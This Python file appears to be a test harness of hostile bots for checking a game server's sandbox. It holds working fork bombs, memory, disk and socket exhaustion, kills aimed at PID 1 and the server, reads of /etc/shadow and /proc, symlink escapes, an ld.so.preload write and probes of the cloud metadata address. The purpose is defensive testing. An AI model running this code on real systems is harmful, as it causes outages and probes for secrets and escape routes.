"""Attacks of uploaded bots on the server that runs them. The first argument names one; then it plays on.

What came of the attack is said on standard error, as `NAME: ...`. Needs nothing but the standard library.
"""

import contextlib
import ctypes
import errno
import fcntl
import itertools
import json
import mmap
import os
import resource
import select
import signal
import socket
import stat
import sys
import threading
import time
from collections.abc import Callable
from functools import partial
from pathlib import Path
from typing import Any

MB = 1 << 20
FOREVER_S = 3_600
PATIENCE_S = 20.0  # for what must come
ALLOWED_LINKS = 8
MANY = 1 << 40
libc = ctypes.CDLL(None, use_errno=True)
ARGUMENTS = sys.argv[2:]


def say(text: str) -> None:
    sys.stderr.write(f"{text}\n")
    sys.stderr.flush()


def name_of(error: OSError) -> str:
    return errno.errorcode.get(error.errno or 0, type(error).__name__)


def attempt(what: Callable[[], Any]) -> str:
    """What came of it, in a word: the name of the error, or `DONE`, which is bad."""
    try:
        what()
    except OSError as error:
        return name_of(error)
    except (MemoryError, ValueError) as error:
        return type(error).__name__
    return "DONE"


def syscall(function: str, *arguments: Any) -> None:
    if getattr(libc, function)(*arguments) < 0:
        raise OSError(ctypes.get_errno(), function)


# Processes and computing time.


def fork_bomb() -> str:
    """Children of children, until there can be no more; they stay."""
    count = 0
    while True:
        try:
            if os.fork() == 0:
                with contextlib.suppress(OSError):
                    while True:
                        os.fork()
                time.sleep(FOREVER_S)
            count += 1
        except OSError as error:
            return f"{name_of(error)} after {count}"


def thread_bomb() -> str:
    wait = threading.Event()
    for count in range(100_000):
        try:
            threading.Thread(target=wait.wait, daemon=True).start()
        except RuntimeError:
            return f"refused after {count}"
    return "DONE"


def outlive() -> str:
    """A grandchild in a session of its own, deaf to requests to end."""
    if os.fork() == 0:
        os.setsid()
        if os.fork() != 0:
            os._exit(0)
        for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
            signal.signal(number, signal.SIG_IGN)
        time.sleep(FOREVER_S)
    return "left behind"


def stay_deaf() -> str:
    for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
        signal.signal(number, signal.SIG_IGN)
    return "deaf"


def burn() -> str:
    """Goes on computing when there is nothing to play."""

    def work() -> None:
        while True:
            pass

    threading.Thread(target=work, daemon=True).start()
    return "burning"


def sleep_forever() -> str:
    say("sleep_forever: good night")
    with log_in():
        time.sleep(FOREVER_S)
    return "DONE"


def kill_others() -> str:
    server = attempt(lambda: os.kill(int(ARGUMENTS[0]), signal.SIGKILL))
    first = attempt(lambda: os.kill(1, signal.SIGKILL))
    with contextlib.suppress(OSError):
        os.kill(-1, signal.SIGCONT)
    return f"server {server}, first {first}"


def see_others() -> str:
    pids = [int(name) for name in os.listdir("/proc") if name.isdigit()]
    server = attempt(lambda: Path(f"/proc/{ARGUMENTS[0]}/environ").read_bytes())
    return f"{len(pids)} processes, server {server}"


def trace() -> str:
    syscall("ptrace", 16, 1, 0, 0)  # PTRACE_ATTACH to the first process
    return "DONE"


def dump_core() -> str:
    os.chdir("/tmp")
    resource.setrlimit(resource.RLIMIT_CORE, (0, 0))
    say(f"dump_core: {attempt(lambda: resource.setrlimit(resource.RLIMIT_CORE, (MB, MB)))}")
    os.abort()


def crash() -> str:
    raise SystemExit("crashed on purpose")


# Memory and files.


def fill_memory() -> str:
    """Little by little, and what is refused again and again."""
    kept = []
    while True:
        with contextlib.suppress(MemoryError):
            kept.append(bytearray(4 * MB))


def ask_for_memory() -> str:
    """Much at a time."""
    return attempt(lambda: bytearray(1 << 30))


def fill_shared_memory() -> str:
    """What no process is charged for, once it has let go of the pages: they stay where they are shared."""
    kept = []

    def hoard(file: int) -> None:
        for _ in range(150):
            shared = mmap.mmap(file, 8 * MB)
            for page in range(0, 8 * MB, mmap.PAGESIZE):
                shared[page] = 1
            shared.madvise(mmap.MADV_DONTNEED)
            kept.append(shared)

    anonymous = attempt(lambda: hoard(-1))
    zeros = attempt(lambda: hoard(os.open("/dev/zero", os.O_RDWR)))
    return f"anonymous {anonymous}, zeros {zeros}"


def push_memory_out() -> str:
    """To a disk, where resident pages are not counted."""
    pages = mmap.mmap(-1, 16 * MB, flags=mmap.MAP_PRIVATE)
    pages.write(b"x" * 16 * MB)
    said = [f"advice {number} {attempt(partial(pages.madvise, number))}" for number in (20, 21, 12)]
    return ", ".join(said)  # MADV_COLD, MADV_PAGEOUT, MADV_MERGEABLE


def fill_files_and_memory() -> str:
    """In both folders that it may write, and beside."""
    for folder in ("/tmp", "/dev/shm"):
        with contextlib.suppress(OSError), open(f"{folder}/full", "wb", buffering=0) as file:
            while True:
                file.write(bytes(MB))
    return fill_memory()


def cork(link: socket.socket) -> None:
    """Sends until nothing more goes in."""
    link.setblocking(False)
    with contextlib.suppress(OSError):
        link.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 64 * MB)
    with contextlib.suppress(BlockingIOError):
        while True:
            link.send(b"x" * 65_536)


def many_children(what: Callable[[], Any]) -> str:
    """Each holds what `what` returns, and so do we."""
    for _ in range(20):
        try:
            if os.fork() == 0:
                kept = what()
                time.sleep(FOREVER_S)
                kept.clear()
        except OSError:
            break
    kept = what()
    time.sleep(FOREVER_S)
    return f"DONE {len(kept)}"


def fill_sockets() -> str:
    """Their buffers are nobody's memory."""

    def fill() -> list[Any]:
        kept: list[Any] = []
        with contextlib.suppress(OSError):
            while True:
                kept += socket.socketpair()
                cork(kept[-1])
        return kept

    return many_children(fill)


def fill_left_sockets() -> str:
    """Many small messages of senders that have gone."""

    def fill() -> list[Any]:
        kept: list[Any] = []
        with contextlib.suppress(OSError):
            while True:
                ours, theirs = socket.socketpair()
                kept.append(theirs)
                ours.setblocking(False)
                with ours, contextlib.suppress(BlockingIOError):
                    while True:
                        ours.send(b"x")
        return kept

    return many_children(fill)


def fill_connections() -> str:
    """As `fill_sockets`, through the loopback."""

    def fill() -> list[Any]:
        listener = socket.create_server(("127.0.0.1", 0))
        kept: list[Any] = [listener]
        with contextlib.suppress(OSError):
            while True:
                kept.append(socket.create_connection(listener.getsockname()))
                kept.append(listener.accept()[0])
                cork(kept[-1])
        return kept

    return many_children(fill)


def fill_pipes() -> str:
    """As large as a pipe can be."""
    ours, theirs = os.pipe()
    larger = attempt(lambda: fcntl.fcntl(theirs, 1031, MB))  # F_SETPIPE_SZ
    lent = attempt(lambda: syscall("vmsplice", theirs, 0, 0, 0))
    os.close(ours)
    return f"larger {larger}, lent {lent}"


def map_in_pieces() -> str:
    """Mappings that hold next to nothing, each with a record of the kernel's."""

    def fill() -> list[Any]:
        libc.mmap.restype = ctypes.c_void_p
        size = ctypes.c_size_t(60_000 * mmap.PAGESIZE)
        start = libc.mmap(None, size, mmap.PROT_READ, 0x22, -1, ctypes.c_long(0))
        for page in range(0, 60_000, 2):
            place = ctypes.c_void_p(start + page * mmap.PAGESIZE)
            libc.mprotect(place, ctypes.c_size_t(mmap.PAGESIZE), 0)
        return [start]

    return many_children(fill)


def lock_in_pieces() -> str:
    """Each lock is a record of the kernel's, and nothing limits their number."""
    with open("/tmp/locked", "wb") as file:
        return attempt(lambda: fcntl.lockf(file, fcntl.LOCK_EX, 1, 7))


def take_contexts() -> str:
    """Those of asynchronous I/O, of which a machine has 65,536."""
    number = {"x86_64": 206, "aarch64": 0}[os.uname().machine]
    context = ctypes.c_ulong(0)
    return attempt(lambda: syscall("syscall", number, 8, ctypes.byref(context)))


def spare_me() -> str:
    """Others are to go when memory runs out."""

    def write() -> None:
        with open("/proc/self/oom_score_adj", "w") as file:
            file.write("-1000")

    with open("/proc/self/oom_score_adj") as file:
        return f"{attempt(write)}, it is {file.read().strip()}"


def hide_memory() -> str:
    """In files without a name, and in segments that outlive their makers."""
    file = attempt(lambda: os.memfd_create("hidden"))
    segment = attempt(lambda: syscall("shmget", 0, 8 * MB, 0o1600))
    messages = attempt(lambda: syscall("msgget", 0, 0o1600))
    queue = attempt(lambda: syscall("mq_open", b"/hidden", os.O_CREAT | os.O_RDWR, 0o600, 0))
    watch = attempt(lambda: syscall("inotify_init1", 0))
    return f"file {file}, segment {segment}, messages {messages}, queue {queue}, watch {watch}"


def fill_page_tables() -> str:
    """Much is mapped, and of each piece one byte is read."""
    kept = []
    while True:
        wide = mmap.mmap(-1, 1 << 34, flags=mmap.MAP_PRIVATE | 0x4000, prot=mmap.PROT_READ)
        for place in range(0, 1 << 34, 1 << 21):
            wide[place]
        kept.append(wide)


def fill_disk() -> str:
    written = 0
    for number in range(1_000):
        try:
            with open(f"/tmp/{number}", "wb", buffering=0) as file:
                for _ in range(4):
                    written += file.write(bytes(MB))
        except OSError as error:
            return f"{name_of(error)} after {written // MB} MB"
    return "DONE"


def huge_file() -> str:
    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)

    def grow() -> None:
        with open("/dev/shm/huge", "wb") as file:
            file.truncate(MANY)

    return attempt(grow)


def fill_inodes() -> str:
    for number in range(1_000_000):
        with open(f"/tmp/{number}", "wb"):
            pass
    return "DONE"


def open_files() -> str:
    kept = []
    try:
        while True:
            kept.append(open("/dev/null", "rb"))  # noqa: SIM115 (that is the attack)
    except OSError as error:
        count = len(kept)
        kept.clear()
        return f"{name_of(error)} after {count}"


def write_own_code() -> str:
    def write() -> None:
        with open(__file__, "a") as file:
            file.write("# changed\n")

    beside = attempt(lambda: Path("/bot/other.py").write_text(""))
    system = attempt(lambda: Path("/usr/bin/other").write_text(""))
    return f"itself {attempt(write)}, beside {beside}, system {system}"


def read_secrets() -> str:
    paths = ["/etc/shadow", "/root/.ssh", "/home", "/var", "/run", "/sys", *ARGUMENTS]
    return ", ".join(f"{path} {attempt(partial(os.stat, path))}" for path in paths)


def devices() -> str:
    def make() -> None:
        os.mknod("/tmp/disk", stat.S_IFBLK | 0o666, os.makedev(254, 0))

    found = ", ".join(
        f"{name} {attempt(partial(os.open, name, os.O_RDWR))}"
        for name in ("/dev/mem", "/dev/vda", "/dev/sda", "/dev/kvm", "/dev/fuse", "/dev/tty")
    )
    return f"{found}, mknod {attempt(make)}"


def read_proc() -> str:
    """Everything that can be read there, in search of paths of the machine. The arguments are such paths."""
    found, read = set(), 0
    for folder, folders, files in os.walk("/proc"):
        if folder == "/proc":
            folders[:] = [
                name for name in folders if name.isdigit() or name in ("self", "sys", "fs")
            ]
        for name in files:
            path = f"{folder}/{name}"
            if os.path.islink(path):  # what it leads to is no business of /proc
                continue
            try:
                said = read_some(path)
            except (OSError, ValueError):
                continue
            read += 1
            found |= {f"{path}: {one}" for one in ARGUMENTS if one.encode() in said}
        for name in (*folders, *files):
            with contextlib.suppress(OSError):
                target = os.readlink(f"{folder}/{name}")
                found |= {f"{folder}/{name}: {target}" for one in ARGUMENTS if one in target}
    own = {one for one in found if "/cmdline" in one}  # the arguments themselves
    with open("/proc/1/cmdline", "rb") as file:
        first = file.read().replace(b"\0", b" ").decode()
    enough = "enough" if read > 100 else f"only {read}"
    return f"{enough} files, told {sorted(found - own)}, first {first}"


def read_some(path: str) -> bytes:
    """What can be read at once, without waiting for more."""
    fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
    with os.fdopen(fd, "rb", buffering=0) as file:
        return file.read(4 * MB) or b""


def follow_links() -> str:
    """A link out of the sandbox leads nowhere."""
    os.symlink(ARGUMENTS[0], "/tmp/out")
    return attempt(lambda: os.listdir("/tmp/out"))


# What only builds can do.


def build_link() -> str:
    """In the place of a file of the bot, a link out of the sandbox."""
    os.symlink(ARGUMENTS[0], "secrets")
    os.symlink("/etc/shadow", "shadow")
    return "linked"


def build_too_much() -> str:
    for number in range(400):
        Path(f"file{number}").write_bytes(b"")
    return "built"


def change_manifest() -> str:
    """The manifest that counts was read before."""
    with open("bot.toml", "w") as file:
        file.write('name = "random"\ncommand = ["/usr/bin/id"]\n')
    return "changed"


# Rights.


def become_root() -> str:
    uid = attempt(lambda: os.setuid(0))
    groups = attempt(lambda: os.setgroups([0]))
    os.system("su -c id root >&2 < /dev/null")
    return f"setuid {uid}, setgroups {groups}, euid is root: {os.geteuid() == 0}"


def mount() -> str:
    syscall("mount", b"none", b"/tmp", b"tmpfs", 0, 0)
    return "DONE"


def new_namespace() -> str:
    syscall("unshare", 0x10000000)  # CLONE_NEWUSER
    return "DONE"


def new_root() -> str:
    os.chroot("/tmp")
    return "DONE"


def load_program() -> str:
    syscall("syscall", 321 if os.uname().machine == "x86_64" else 280, 0, 0, 0)  # bpf
    return "DONE"


def other_calls() -> str:
    """What a runtime might try, and is only refused."""
    x86 = os.uname().machine == "x86_64"
    calls = {
        "io_uring_setup": 425,
        "keyctl": 250 if x86 else 219,
        "userfaultfd": 323 if x86 else 282,
    }
    found = [
        f"{name} {attempt(partial(syscall, 'syscall', number, 0, 0))}"
        for name, number in calls.items()
    ]
    return ", ".join([*found, f"affinity {attempt(lambda: os.sched_setaffinity(0, range(64)))}"])


def raise_limits() -> str:
    most = resource.RLIM_INFINITY
    names = ("RLIMIT_NPROC", "RLIMIT_DATA", "RLIMIT_NOFILE", "RLIMIT_FSIZE")
    raised = [
        name
        for name in names
        if _can(partial(resource.setrlimit, getattr(resource, name), (most, most)))
    ]
    nicer = attempt(lambda: os.setpriority(os.PRIO_PROCESS, 0, -5))
    return f"raised {raised}, priority {nicer}"


def _can(what: Callable[[], Any]) -> bool:
    try:
        what()
    except (OSError, ValueError):
        return False
    return True


# The network and the server.


def connect_out() -> str:
    def dial(host: str, port: int) -> None:
        socket.create_connection((host, port), timeout=2).close()

    server = attempt(lambda: dial("127.0.0.1", int(ARGUMENTS[0])))
    far = attempt(lambda: dial("192.0.2.1", 80))
    near = attempt(lambda: dial("169.254.169.254", 80))
    raw = attempt(lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW))
    return f"server {server}, far {far}, near {near}, raw {raw}"


def look_up() -> str:
    try:
        socket.getaddrinfo("example.org", 80)
    except OSError as error:
        return type(error).__name__
    return "DONE"


def listen() -> str:
    """Inside it may; nobody can come."""
    listener = socket.socket()
    listener.bind(("0.0.0.0", int(ARGUMENTS[0])))
    listener.listen()
    globals()["kept"] = listener
    return "listening"


def other_sockets() -> str:
    with open("/proc/net/unix") as file:
        unix = len(file.readlines()) - 1
    with open("/proc/net/tcp") as file:
        listening = sum(" 0A " in line for line in file)
    fds = sorted(int(name) for name in os.listdir("/proc/self/fd"))
    return f"{unix} unix sockets, {listening} ports, descriptors {fds[:-1]}"


def be_somebody_else() -> str:
    found = []
    for auth in (
        {"kind": "guest", "name": "nobody"},
        {"kind": "token", "token": ARGUMENTS[0]},
        {"kind": "token", "token": "inf_house_guess"},
    ):
        with dial_server() as link:
            link.sendall(json.dumps({"type": "hello", "proto": [1], "auth": auth}).encode() + b"\n")
            found.append(str(json.loads(link.makefile("rb").readline())["code"]))
    return " ".join(found)


def reach_beyond() -> str:
    """As itself, but not where it was put."""
    found = []
    numbers = itertools.count(1)
    with dial_server() as link:
        lines = link.makefile("rb")

        def ask(**message: Any) -> dict[str, Any]:
            number = next(numbers)
            link.sendall(json.dumps(message | {"id": number}).encode() + b"\n")
            for line in lines:
                answer: dict[str, Any] = json.loads(line) if line.strip() else {}
                if answer.get("re") == number:
                    return answer
            raise EOFError

        auth = {"kind": "token", "token": os.environ["INFOSET_TOKEN"]}
        ask(type="hello", proto=[1], auth=auth)
        for kind, fields in (
            ("seek", {"game": "colonizers"}),
            ("create_room", {"game": "colonizers"}),
            ("chat", {"room": "ABCD", "text": "hi"}),
            ("watch", {"room": "ABCD"}),
            ("replays", {}),
        ):
            answer = ask(type=kind, **fields)
            found.append(f"{kind} {answer.get('code', answer['type'])}")
        link.sendall(b'{"type":"bye"}\n')
    return ", ".join(found)


def flood_door() -> str:
    """Returns how many of 100 connections stayed; the server takes its time to throw the others out."""
    links: list[socket.socket] = []
    for _ in range(100):
        with contextlib.suppress(OSError):
            links.append(dial_server())
    give_up_s = time.monotonic() + PATIENCE_S
    while len(links) > ALLOWED_LINKS and time.monotonic() < give_up_s:
        ready, _, _ = select.select(links, [], [], 1.0)
        for link in ready:
            if is_ended(link):
                links.remove(link)
                link.close()
    for link in links:
        leave(link)
    return f"{len(links)} stayed"


def is_ended(link: socket.socket) -> bool:
    """Reads from it; is that the end?"""
    try:
        return not link.recv(1)
    except OSError:
        return True


def leave(link: socket.socket) -> None:
    """Returns when the server knows that we have gone: until then it counts us."""
    with link, contextlib.suppress(OSError):
        link.settimeout(PATIENCE_S)
        link.shutdown(socket.SHUT_WR)
        while link.recv(4096):
            pass


def giant_line() -> str:
    with dial_server() as link, contextlib.suppress(OSError):
        while True:
            link.sendall(b"x" * MB)
    return "cut off"


def steal_environment() -> str:
    known = {"PATH", "HOME", "LANG", "PWD", "LC_CTYPE", "LD_LIBRARY_PATH"}
    ours = ("INFOSET_", "PYTHON", "JAVA_", "NODE_", "GO")
    strange = [name for name in os.environ if name not in known and not name.startswith(ours)]
    preload = attempt(lambda: Path("/etc/ld.so.preload").write_text("/tmp/evil.so"))
    return f"strange names {strange}, preload {preload}"


# Words.


def endless_stdout() -> str:
    def talk() -> None:
        while True:
            os.write(1, b"x" * 65_536)

    threading.Thread(target=talk, daemon=True).start()
    return "talking"


def endless_stderr() -> str:
    with log_in():
        while True:
            os.write(2, b"x" * 65_535 + b"\n")


# Playing on.


def dial_server() -> socket.socket:
    host, _, port = os.environ["INFOSET_URL"].removeprefix("infoset://").rpartition(":")
    return socket.create_connection((host, int(port)))


def log_in() -> socket.socket:
    link = dial_server()
    auth = {"kind": "token", "token": os.environ["INFOSET_TOKEN"]}
    client = {"name": "attacker", "lang": "python"}
    send(link, {"type": "hello", "proto": [1], "auth": auth, "client": client})
    return link


def send(link: socket.socket, message: dict[str, Any]) -> None:
    link.sendall(json.dumps(message).encode() + b"\n")


def play() -> None:
    link = log_in()
    for line in link.makefile("rb"):
        message: dict[str, Any] = json.loads(line) if line.strip() else {"type": ""}
        is_turn = message["type"] == "your_turn"
        turns: list[dict[str, Any]] = [message] if is_turn else message.get("pending", [])
        for turn in turns:
            match_id, decision = message["match_id"], turn["decision"]
            act = {"type": "act", "match_id": match_id, "decision": decision, "index": 0}
            send(link, act)


def main() -> None:
    name = sys.argv[1]
    if name != "play":
        say(f"{name}: {globals()[name]()}")
    if os.environ.get("INFOSET_URL"):  # else it is being built
        play()


if __name__ == "__main__":
    main()
